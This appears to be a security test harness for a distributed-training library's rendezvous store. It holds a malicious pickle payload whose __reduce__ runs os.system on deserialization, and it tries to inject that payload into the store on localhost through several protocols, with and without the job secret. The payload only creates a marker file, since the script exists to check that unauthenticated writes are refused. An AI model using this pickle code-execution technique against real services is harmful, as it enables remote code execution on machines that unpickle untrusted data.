"""An unrelated program attacking a refit rendezvous: ``python attacker.py PORT MARKER [SECRET]``.

It tries, in turn, to write a pickle (whose unpickling would create the file MARKER) under the
keys ranks read: through torch's TCPStore protocol, through refit's protocol without the secret, and
through refit's protocol with the job's name and secret when given (an insider, or a job run
without a secret). Prints one line per attempt: what happened.
"""

import os
import pickle
import socket
import sys
from datetime import timedelta

import torch.distributed as dist

from refit_core.contract.errors import RefitError
from refit_core.net.auth import JobCredentials
from refit_core.net.store import Endpoint, StoreClient


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def main() -> None:
    port, marker = int(sys.argv[1]), sys.argv[2]
    secret = sys.argv[3] if len(sys.argv) > 3 else None
    evil = pickle.dumps(Payload(marker))
    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=3), use_libuv=True)
        store.set("refit/error", evil)
        print("tcpstore: wrote", flush=True)
    except Exception as exc:  # noqa: BLE001
        print(f"tcpstore: refused ({type(exc).__name__})", flush=True)
    with socket.create_connection(("127.0.0.1", port), timeout=3) as raw:  # raw pickle bytes
        try:
            raw.sendall(len(evil).to_bytes(4, "big") + evil)
            answer = raw.recv(100)
            print("raw: dropped (closed)" if answer == b"" else f"raw: answered {answer!r}", flush=True)
        except OSError as exc:
            print(f"raw: dropped ({type(exc).__name__})", flush=True)
    for label, creds in (("no secret", JobCredentials("refit", b"")),
                         ("job secret", JobCredentials("refit", secret.encode()) if secret is not None else None)):
        if creds is None:
            continue
        try:
            client = StoreClient(Endpoint("127.0.0.1", port), creds, "train/7", timeout_s=5, handshake_s=3)
        except RefitError as exc:
            print(f"{label}: refused ({type(exc).__name__}: {exc})", flush=True)
            continue
        for key in ("error", "meta/gen/0", "size/gen"):
            client.set(key, evil)
        client.close()
        print(f"{label}: wrote", flush=True)


if __name__ == "__main__":
    main()
